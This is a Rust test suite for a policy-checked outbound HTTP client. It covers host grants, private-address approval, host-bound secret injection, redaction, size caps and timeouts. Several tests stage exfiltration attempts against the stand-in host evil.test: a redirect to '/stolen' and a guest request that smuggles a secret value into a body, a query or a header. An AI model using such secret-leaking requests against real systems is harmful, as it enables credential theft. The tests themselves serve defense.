//! End-to-end tests against real loopback HTTP servers. DNS is outside Kelp, so a fixed table
//! stands in for it; every name in it points at 127.0.0.1.

use std::collections::HashMap;
use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::{OriginalUri, State};
use axum::http::{HeaderMap, Method, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::any;
use futures::StreamExt;
use futures::future::BoxFuture;
use tokio::sync::Notify;

use super::*;

struct FixedResolver {
    table: HashMap<String, IpAddr>,
    calls: AtomicUsize,
}

impl FixedResolver {
    fn new(names: &[&str]) -> Arc<Self> {
        let localhost = IpAddr::V4(Ipv4Addr::LOCALHOST);
        Arc::new(FixedResolver {
            table: names.iter().map(|n| (n.to_string(), localhost)).collect(),
            calls: AtomicUsize::new(0),
        })
    }
}

impl Resolve for FixedResolver {
    fn resolve(&self, host: &str, port: u16) -> BoxFuture<'static, io::Result<Vec<SocketAddr>>> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        let answer = match self.table.get(host) {
            Some(ip) => Ok(vec![SocketAddr::new(*ip, port)]),
            None => Err(io::Error::new(io::ErrorKind::NotFound, "no such host")),
        };
        Box::pin(async move { answer })
    }
}

#[derive(Clone, Default)]
struct ServerState {
    release_second_chunk: Arc<Notify>,
}

async fn echo(method: Method, uri: OriginalUri, headers: HeaderMap, body: Bytes) -> Response {
    let headers: HashMap<String, String> = headers
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or("").to_owned()))
        .collect();
    let json = serde_json::json!({
        "method": method.as_str(),
        "path": uri.path(),
        "query": uri.query(),
        "headers": headers,
        "body": String::from_utf8_lossy(&body),
    });
    ([("x-served-by", "echo")], json.to_string()).into_response()
}

async fn handle(
    State(state): State<ServerState>,
    method: Method,
    uri: OriginalUri,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    match uri.path() {
        "/redirect" => {
            (StatusCode::FOUND, [("location", "http://evil.test/stolen")]).into_response()
        }
        "/big" => vec![b'x'; 10_000].into_response(),
        "/big-chunked" => {
            let chunks =
                futures::stream::iter((0..10).map(|_| Ok::<_, io::Error>(vec![b'x'; 1000])));
            Body::from_stream(chunks).into_response()
        }
        "/slow" => {
            tokio::time::sleep(Duration::from_secs(5)).await;
            "late".into_response()
        }
        "/stream" => {
            let release = state.release_second_chunk.clone();
            let chunks = futures::stream::once(async { Ok::<_, io::Error>("first") }).chain(
                futures::stream::once(async move {
                    release.notified().await;
                    Ok("second")
                }),
            );
            Body::from_stream(chunks).into_response()
        }
        _ => echo(method, uri, headers, body).await,
    }
}

/// Starts a loopback server; returns its port and a handle to release the streaming route.
async fn server() -> (u16, ServerState) {
    let state = ServerState::default();
    let app = Router::new()
        .fallback(any(handle))
        .with_state(state.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (port, state)
}

fn grant(pattern: &str, allow_private: bool) -> HttpGrant {
    HttpGrant {
        pattern: pattern.parse().unwrap(),
        allow_private,
    }
}

fn policy(grants: Vec<HttpGrant>, secrets: Vec<BoundSecret>) -> OutboundPolicy {
    OutboundPolicy {
        grants,
        secrets,
        max_response_bytes: 1 << 20,
        timeout: Duration::from_secs(10),
        user_agent: "kelp-test".into(),
    }
}

fn client(policy: OutboundPolicy) -> OutboundClient {
    let resolver = FixedResolver::new(&["api.test", "other.test", "evil.test"]);
    OutboundClient::new(policy, resolver).unwrap()
}

fn get(url: String) -> OutboundRequest {
    OutboundRequest {
        method: "GET".into(),
        url,
        headers: vec![],
        body: None,
    }
}

fn secret(name: &str, host: Option<&str>, position: SecretPosition, value: &str) -> BoundSecret {
    BoundSecret {
        name: name.into(),
        host: host.map(|h| h.parse().unwrap()),
        position,
        require_https: false,
        value: value.into(),
    }
}

fn header_secret(host: &str, value: &str) -> BoundSecret {
    let position = SecretPosition::Header {
        name: "x-api-key".into(),
        format: "Key {}".into(),
    };
    secret("API_KEY", Some(host), position, value)
}

fn echoed(resp: &OutboundResponse) -> serde_json::Value {
    assert_eq!(resp.status, 200, "{}", String::from_utf8_lossy(&resp.body));
    serde_json::from_slice(&resp.body).unwrap()
}

fn denied(result: Result<OutboundResponse, OutboundError>) -> String {
    match result {
        Err(OutboundError::Denied(msg)) => msg,
        other => panic!("expected Denied, got {other:?}"),
    }
}

#[tokio::test]
async fn granted_host_get_and_post_succeed() {
    let (port, _) = server().await;
    let c = client(policy(vec![grant("api.test", true)], vec![]));

    let mut req = get(format!("http://api.test:{port}/echo?x=1"));
    req.headers.push(("X-Test".into(), "hello".into()));
    let resp = c.send(req).await.unwrap();
    let seen = echoed(&resp);
    assert_eq!(seen["method"], "GET");
    assert_eq!(seen["query"], "x=1");
    assert_eq!(seen["headers"]["x-test"], "hello");
    assert_eq!(seen["headers"]["user-agent"], "kelp-test");
    assert_eq!(seen["headers"]["host"], format!("api.test:{port}"));
    assert!(
        resp.headers
            .contains(&("x-served-by".into(), "echo".into()))
    );

    let resp = c
        .send(OutboundRequest {
            method: "POST".into(),
            url: format!("http://api.test:{port}/echo"),
            headers: vec![("content-type".into(), "application/json".into())],
            body: Some(br#"{"a":1}"#.to_vec()),
        })
        .await
        .unwrap();
    let seen = echoed(&resp);
    assert_eq!(seen["method"], "POST");
    assert_eq!(seen["body"], r#"{"a":1}"#);
}

#[tokio::test]
async fn host_not_granted_is_denied_by_name() {
    let (port, _) = server().await;
    let c = client(policy(vec![grant("api.test", true)], vec![]));
    let msg = denied(c.send(get(format!("http://evil.test:{port}/"))).await);
    assert!(msg.contains("'evil.test:"), "{msg}");
    assert!(msg.contains("not granted"), "{msg}");
    assert!(msg.contains("granted: api.test"), "{msg}");
}

#[tokio::test]
async fn private_address_needs_explicit_approval() {
    let (port, _) = server().await;
    let url = format!("http://api.test:{port}/echo");

    let c = client(policy(vec![grant("api.test", false)], vec![]));
    let msg = denied(c.send(get(url.clone())).await);
    assert!(
        msg.contains("resolves to loopback address 127.0.0.1"),
        "{msg}"
    );
    assert!(
        msg.contains("approve it explicitly as a private host"),
        "{msg}"
    );

    let c = client(policy(vec![grant("api.test", true)], vec![]));
    echoed(&c.send(get(url)).await.unwrap());
}

#[tokio::test]
async fn ip_literals_are_checked_like_resolved_addresses() {
    let (port, _) = server().await;
    let c = client(policy(vec![grant("127.0.0.1", false)], vec![]));
    let msg = denied(c.send(get(format!("http://127.0.0.1:{port}/"))).await);
    assert!(msg.contains("loopback"), "{msg}");

    let c = client(policy(
        vec![grant(&format!("127.0.0.1:{port}"), true)],
        vec![],
    ));
    echoed(
        &c.send(get(format!("http://127.0.0.1:{port}/")))
            .await
            .unwrap(),
    );

    // The mapped form is the same machine: canonicalised, then refused.
    let c = client(policy(vec![grant("*", false)], vec![]));
    let msg = denied(
        c.send(get(format!("http://[::ffff:127.0.0.1]:{port}/")))
            .await,
    );
    assert!(msg.contains("loopback address (127.0.0.1)"), "{msg}");
}

#[tokio::test]
async fn approval_for_one_port_does_not_extend_to_others() {
    let (port, _) = server().await;
    let c = client(policy(
        vec![grant("*", false), grant(&format!("api.test:{port}"), true)],
        vec![],
    ));
    echoed(
        &c.send(get(format!("http://api.test:{port}/")))
            .await
            .unwrap(),
    );
    let other = if port == 65535 { port - 1 } else { port + 1 };
    let msg = denied(c.send(get(format!("http://api.test:{other}/"))).await);
    assert!(msg.contains("loopback"), "{msg}");
}

#[tokio::test]
async fn connection_uses_the_checked_resolution_only() {
    let (port, _) = server().await;
    let resolver = FixedResolver::new(&["api.test"]);
    let c = OutboundClient::new(
        policy(vec![grant("api.test", true)], vec![]),
        resolver.clone(),
    )
    .unwrap();
    // `api.test` exists only in the host's resolver; the system resolver would fail, so a
    // success shows the connection used the pinned, checked addresses.
    for _ in 0..2 {
        echoed(
            &c.send(get(format!("http://api.test:{port}/")))
                .await
                .unwrap(),
        );
    }
    assert_eq!(resolver.calls.load(Ordering::SeqCst), 2);
}

#[tokio::test]
async fn redirect_is_returned_not_followed() {
    let (port, _) = server().await;
    let c = client(policy(vec![grant("api.test", true)], vec![]));
    let resp = c
        .send(get(format!("http://api.test:{port}/redirect")))
        .await
        .unwrap();
    assert_eq!(resp.status, 302);
    assert!(
        resp.headers
            .contains(&("location".into(), "http://evil.test/stolen".into()))
    );
}

#[tokio::test]
async fn header_secret_goes_only_to_its_host() {
    let (port, _) = server().await;
    let c = client(policy(
        vec![grant("api.test", true), grant("other.test", true)],
        vec![header_secret(&format!("api.test:{port}"), "k-123")],
    ));
    let seen = echoed(
        &c.send(get(format!("http://api.test:{port}/")))
            .await
            .unwrap(),
    );
    assert_eq!(seen["headers"]["x-api-key"], "Key k-123");
    let seen = echoed(
        &c.send(get(format!("http://other.test:{port}/")))
            .await
            .unwrap(),
    );
    assert!(seen["headers"].get("x-api-key").is_none());
}

#[tokio::test]
async fn a_secret_bound_without_a_port_goes_only_to_the_default_port() {
    let (port, _) = server().await;
    // `api.test` names no port: the key is for the service on the scheme's default port, not
    // for whatever else listens on another port of that machine.
    let c = client(policy(
        vec![grant("api.test", true)],
        vec![header_secret("api.test", "k-123")],
    ));
    let seen = echoed(
        &c.send(get(format!("http://api.test:{port}/")))
            .await
            .unwrap(),
    );
    assert!(seen["headers"].get("x-api-key").is_none(), "{seen}");
}

#[tokio::test]
async fn a_secret_goes_over_plain_http_only_to_an_approved_private_address() {
    let (port, _) = server().await;
    let api = format!("api.test:{port}");
    // Approved as private (the address is loopback): a local model server's case.
    let c = client(policy(
        vec![grant(&api, true)],
        vec![header_secret(&api, "k-123")],
    ));
    let seen = echoed(&c.send(get(format!("http://{api}/"))).await.unwrap());
    assert_eq!(seen["headers"]["x-api-key"], "Key k-123");
    // Bound to an https URL: refused over plain http even there, and nothing is sent.
    let mut bound = header_secret(&api, "k-123");
    bound.require_https = true;
    let c = client(policy(vec![grant(&api, true)], vec![bound]));
    let msg = denied(c.send(get(format!("http://{api}/"))).await);
    assert!(msg.contains("sent only over https"), "{msg}");
    assert!(!msg.contains("k-123"), "{msg}");
}

#[tokio::test]
async fn query_and_form_secrets_are_encoded() {
    let (port, _) = server().await;
    let value = "a b&c=d/é";
    let encoded = "a+b%26c%3Dd%2F%C3%A9";
    let api = format!("api.test:{port}");
    let c = client(policy(
        vec![grant("api.test", true)],
        vec![
            secret("Q", Some(&api), SecretPosition::Query("key".into()), value),
            secret(
                "F",
                Some(&api),
                SecretPosition::FormField("client_secret".into()),
                value,
            ),
        ],
    ));
    let seen = echoed(
        &c.send(get(format!("http://api.test:{port}/q?x=1")))
            .await
            .unwrap(),
    );
    assert_eq!(seen["query"], format!("x=1&key={encoded}"));

    let form = |content_type: &str| OutboundRequest {
        method: "POST".into(),
        url: format!("http://api.test:{port}/token"),
        headers: vec![("Content-Type".into(), content_type.into())],
        body: Some(b"grant_type=x".to_vec()),
    };
    let seen = echoed(
        &c.send(form("application/x-www-form-urlencoded; charset=utf-8"))
            .await
            .unwrap(),
    );
    assert_eq!(
        seen["body"],
        format!("grant_type=x&client_secret={encoded}")
    );
    // Not a form: the field is not added.
    let seen = echoed(&c.send(form("text/plain")).await.unwrap());
    assert_eq!(seen["body"], "grant_type=x");
}

#[tokio::test]
async fn url_path_prefix_secret_is_inserted() {
    let (port, _) = server().await;
    let token = "123456:ABC-def_ghi";
    let c = client(policy(
        vec![grant("api.test", true)],
        vec![secret(
            "TELEGRAM_BOT_TOKEN",
            None,
            SecretPosition::UrlPathPrefix(format!("http://api.test:{port}/bot{{}}/")),
            token,
        )],
    ));
    let seen = echoed(
        &c.send(get(format!("http://api.test:{port}/bot/getMe")))
            .await
            .unwrap(),
    );
    assert_eq!(seen["path"], format!("/bot{token}/getMe"));
    let seen = echoed(
        &c.send(get(format!("http://api.test:{port}/other/bot/")))
            .await
            .unwrap(),
    );
    assert_eq!(seen["path"], "/other/bot/");
}

#[tokio::test]
async fn guest_written_secret_values_are_refused() {
    let (port, _) = server().await;
    let c = client(policy(
        vec![grant("api.test", true), grant("evil.test", true)],
        vec![header_secret("api.test", "s3cr3t-value")],
    ));
    let base = format!("http://evil.test:{port}/");
    let attempts = [
        OutboundRequest {
            body: Some(b"leak=s3cr3t-value".to_vec()),
            method: "POST".into(),
            ..get(base.clone())
        },
        get(format!("{base}?q=%73%33cr3t-value")),
        OutboundRequest {
            headers: vec![("x-note".into(), "s3cr3t-value".into())],
            ..get(base.clone())
        },
    ];
    for attempt in attempts {
        let msg = denied(c.send(attempt).await);
        assert!(msg.contains("secret 'API_KEY'"), "{msg}");
        assert!(!msg.contains("s3cr3t-value"), "{msg}");
    }
}

#[tokio::test]
async fn guest_may_not_fill_a_secret_position() {
    let (port, _) = server().await;
    let api = format!("api.test:{port}");
    let c = client(policy(
        vec![grant("api.test", true)],
        vec![
            header_secret(&api, "k-123"),
            secret(
                "Q",
                Some(&api),
                SecretPosition::Query("key".into()),
                "q-456",
            ),
            secret(
                "F",
                Some(&api),
                SecretPosition::FormField("cs".into()),
                "f-789",
            ),
        ],
    ));
    let url = format!("http://api.test:{port}/");
    let header = OutboundRequest {
        headers: vec![("X-Api-Key".into(), "mine".into())],
        ..get(url.clone())
    };
    assert!(denied(c.send(header).await).contains("header 'x-api-key'"));
    assert!(denied(c.send(get(format!("{url}?key=mine"))).await).contains("query parameter 'key'"));
    let form = OutboundRequest {
        method: "POST".into(),
        headers: vec![(
            "content-type".into(),
            "application/x-www-form-urlencoded".into(),
        )],
        body: Some(b"cs=mine".to_vec()),
        ..get(url)
    };
    assert!(denied(c.send(form).await).contains("form field 'cs'"));
}

#[tokio::test]
async fn malformed_or_connection_level_requests_are_refused() {
    let c = client(policy(vec![grant("api.test", true)], vec![]));
    let with_header = |name: &str| OutboundRequest {
        headers: vec![(name.into(), "x".into())],
        ..get("http://api.test/".into())
    };
    for name in [
        "Host",
        "content-length",
        "Transfer-Encoding",
        "connection",
        "Proxy-Authorization",
    ] {
        assert!(denied(c.send(with_header(name)).await).contains("set only by the host"));
    }
    let bad = [
        OutboundRequest {
            method: "GE T".into(),
            ..get("http://api.test/".into())
        },
        get("ftp://api.test/".into()),
        get("not a url".into()),
        with_header("bad header"),
    ];
    for req in bad {
        assert!(matches!(
            c.send(req).await,
            Err(OutboundError::InvalidRequest(_))
        ));
    }
}

#[tokio::test]
async fn response_over_cap_is_too_large() {
    let (port, _) = server().await;
    let mut p = policy(vec![grant("api.test", true)], vec![]);
    p.max_response_bytes = 1000;
    let c = client(p);
    for path in ["big", "big-chunked"] {
        let result = c.send(get(format!("http://api.test:{port}/{path}"))).await;
        assert_eq!(result, Err(OutboundError::TooLarge(1000)), "{path}");
    }
    let stream = c
        .send_streaming(get(format!("http://api.test:{port}/big-chunked")))
        .await
        .unwrap();
    let items: Vec<_> = stream.body.collect().await;
    assert_eq!(items.last(), Some(&Err(OutboundError::TooLarge(1000))));
    let delivered: usize = items
        .iter()
        .filter_map(|i| i.as_ref().ok())
        .map(|b| b.len())
        .sum();
    assert!(delivered <= 1000);
}

#[tokio::test]
async fn slow_server_times_out() {
    let (port, _) = server().await;
    let mut p = policy(vec![grant("api.test", true)], vec![]);
    p.timeout = Duration::from_millis(300);
    let c = client(p);
    let url = format!("http://api.test:{port}/slow");
    assert_eq!(c.send(get(url.clone())).await, Err(OutboundError::Timeout));
    assert!(matches!(
        c.send_streaming(get(url)).await,
        Err(OutboundError::Timeout)
    ));
}

#[tokio::test]
async fn streaming_yields_chunks_as_they_arrive() {
    let (port, state) = server().await;
    let c = client(policy(vec![grant("api.test", true)], vec![]));
    let mut resp = c
        .send_streaming(get(format!("http://api.test:{port}/stream")))
        .await
        .unwrap();
    assert_eq!(resp.status, 200);
    // The server sends "second" only after we saw "first": a buffering client would hang here,
    // so the outer timeout turns that into a failure.
    let body = tokio::time::timeout(Duration::from_secs(30), async {
        let first = resp.body.next().await.unwrap().unwrap();
        assert_eq!(&first[..], b"first");
        state.release_second_chunk.notify_one();
        let second = resp.body.next().await.unwrap().unwrap();
        assert_eq!(&second[..], b"second");
        assert!(resp.body.next().await.is_none());
    });
    body.await
        .expect("stream did not deliver the first chunk on its own");
}

#[tokio::test]
async fn connection_errors_do_not_leak_secrets() {
    // Bind and drop to find a port nobody listens on.
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let token = "999:SECRET";
    let c = client(policy(
        vec![grant("api.test", true)],
        vec![secret(
            "TOKEN",
            None,
            SecretPosition::UrlPathPrefix(format!("http://api.test:{port}/bot{{}}/")),
            token,
        )],
    ));
    match c
        .send(get(format!("http://api.test:{port}/bot/getMe")))
        .await
    {
        Err(OutboundError::Connection(msg)) => assert!(!msg.contains("SECRET"), "{msg}"),
        other => panic!("expected a connection error, got {other:?}"),
    }
    assert_eq!(
        c.redactor().redact("GET /bot999:SECRET/"),
        "GET /bot[REDACTED:TOKEN]/"
    );
}
